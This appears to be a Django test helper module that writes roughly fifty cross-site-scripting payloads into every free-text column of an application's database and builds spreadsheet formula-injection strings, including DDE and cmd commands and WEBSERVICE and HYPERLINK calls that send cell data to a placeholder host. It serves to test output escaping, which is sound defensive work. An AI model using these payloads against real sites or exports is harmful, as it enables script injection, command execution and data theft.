"""Texts that clients may send and that must stay texts, and what fills every field of a base with them."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from django.apps import apps
from django.db import models

PAYLOADS = (
    "<script>xss(1)</script>", "<img src=x onerror=xss(2)>", "<svg onload=xss(3)>", "\"><script>xss(4)</script>",
    "'><img src=x onerror=xss(5)>", "\" onmouseover=\"xss(6)", "' onfocus='xss(7)' autofocus='", "javascript:xss(8)",
    "<a href=\"javascript:xss(9)\">x</a>", "<iframe srcdoc=\"<script>parent.xss(10)</script>\">", "</title><script>xss(11)</script>",
    "</textarea><script>xss(12)</script>", "</script><script>xss(13)</script>", "<body onload=xss(14)>", "<details open ontoggle=xss(15)>",
    "<video><source onerror=xss(16)>", "<audio src=x onerror=xss(17)>", "<input autofocus onfocus=xss(18)>", "<select autofocus onfocus=xss(19)>",
    "<marquee onstart=xss(20)>", "<math><mtext><img src=x onerror=xss(21)>", "{{constructor.constructor('xss(22)')()}}", "{% raw %}xss(23)",
    "${xss(24)}", "<%= xss(25) %>", "&lt;script&gt;xss(26)&lt;/script&gt;", "&#60;script&#62;xss(27)&#60;/script&#62;", "<scr\0ipt>xss(28)</script>",
    "<ſcript>xss(29)</ſcript>", "＜script＞xss(30)＜/script＞", "<img/src=x/onerror=xss(31)>", "<svg><animate onbegin=xss(32) attributeName=x>",
    "<form action=javascript:xss(33)><button>", "<button formaction=javascript:xss(34)>", "<object data=javascript:xss(35)>", "<embed src=javascript:xss(36)>",
    "<link rel=stylesheet href=data:,*{x:expression(xss(37))}>", "<style>@import 'javascript:xss(38)';</style>", "<base href=//x/>", "<meta http-equiv=refresh content=0;url=javascript:xss(40)>",
    "<div style=\"background:url(javascript:xss(41))\">", "<div hx-get=/log-out/ hx-trigger=load>", "\" hx-on:click=\"xss(43)\" x=\"", "<div data-hx-get=/ hx-trigger=load>",
    "<template><script>xss(45)</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=xss(46)>\">", "<!--><img src=x onerror=xss(47)>-->", "<![CDATA[<img src=x onerror=xss(48)>]]>",
    "\u202e<script>xss(49)</script>", "\r\nSet-Cookie: xss=50", "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>xss(51)</x:script>", "<dialog open onclose=xss(52)>",
)  # fmt: skip
TABLES = ("accounts", "people", "assets", "tasks", "orders", "planning", "money", "ingest", "feedback")
CODES = {
    "Centre": {"zone", "currency"}, "Staff": {"login", "password", "language", "theme"}, "Membership": {"role"},
    "Session": {"session_key", "session_data"}, "Passkey": {"credential_digest"}, "Authenticator": {"secret"},
    "RecoveryCode": {"digest"}, "Invitation": {"token_digest"}, "Guesses": {"digest"}, "Category": {"code", "icon"},
    "StageNorm": {"stage"}, "Stage": {"code"}, "RepairOrder": {"currency"}, "DeviceSecret": {"locked"},
    "ClientLink": {"digest", "locked"}, "Approval": {"terms"},
    "SavedFilter": {"page"}, "Phone": {"number"}, "LegalEntity": {"regime"}, "PriceItem": {"currency"},
    "Account": {"currency"}, "CashShift": {"currency"}, "Payment": {"method"}, "Invoice": {"currency"},
    "StatementLine": {"digest", "fate"}, "Customer": {"class_hand"}, "Import": {"system", "mapping", "connection"},
    "ImportedRow": {"system", "table", "key", "action"}, "RejectedRow": {"table"}, "PastFact": {"table"},
    "Snapshot": {"cause"}, "ClientRefresh": {"cause"}, "Case": {"category", "claim"},
}  # fmt: skip
"""Columns that only the program writes."""
CHECKED = {
    "kind", "phase", "purpose", "channel", "proof", "relation", "identifier", "moment", "state", "outcome", "pay_type",
    "place", "reason", "told_how", "notified_how", "hold_reason", "role", "left_reason", "name_key", "serial_key",
    "plate_key", "tax_code",
}  # fmt: skip
"""Codes: a constraint or the action knows each."""
BY_HAND = (("analysis.ConfigVersion", "note"), ("analysis.SavedSlice", "name"))
"""What people write into the analysis; the rest of its tables is counted."""


def free_texts() -> Iterator[tuple[type[models.Model], Any]]:
    """Every column that holds what people write."""
    for model in (model for label in TABLES for model in apps.get_app_config(label).get_models()):
        for column in model._meta.concrete_fields:
            is_text = isinstance(column, models.CharField | models.TextField)
            if is_text and column.name not in CHECKED | CODES.get(model.__name__, set()):
                yield model, column


def fill() -> int:
    """Write all payloads into every free text of every row; gives how many columns that were.

    For SQLite, which keeps a text of any length.
    """
    columns = list(free_texts())
    whole = " ".join(PAYLOADS).replace("\0", "")
    for model, column in columns:
        for key in model._default_manager.order_by("pk").values_list("pk", flat=True):
            model._default_manager.filter(pk=key).update(**{column.name: f"{key} {whole}"})
    for name in ("checklist", "ready_checklist"):
        apps.get_model("orders.RepairOrder")._default_manager.update(**{name: [{"text": whole, "is_on": True}]})
    apps.get_model("assets.CategoryField")._default_manager.update(choices=list(PAYLOADS))
    apps.get_model("ingest.RejectedRow")._default_manager.update(cells={whole: whole})
    for label, column in BY_HAND:
        for key in apps.get_model(label)._default_manager.values_list("pk", flat=True):
            apps.get_model(label)._default_manager.filter(pk=key).update(**{column: f"{key} {whole}"})
    return len(columns)


STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", "\u2212", "\uff1d", "\uff0b", "\uff0d", "\uff20", " =", "\u00a0=", "\t", "\u200b=", "\ufeff=",
          "=\u00a0", "+ ", "- ", "@ ", "\n+", "\r\n-", " @", "\t-")  # fmt: skip
FOLLOWS = (
    "1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://x.example/?\"&A1;\"x\")", "SUM(A1:A9)", "IMPORTXML(\"http://x.example\")",
    "WEBSERVICE(\"http://x.example\")", "DDE(\"cmd\";\"/C calc\";\"x\")", "rundll32|'x'!A1", "7 997 200-00-01", "A1;\"x\"\n=B1",
)  # fmt: skip
FORMULAS = tuple(f"{start}{follows}" for start in STARTS for follows in FOLLOWS)
"""Texts that a spreadsheet would run, or show as something else."""
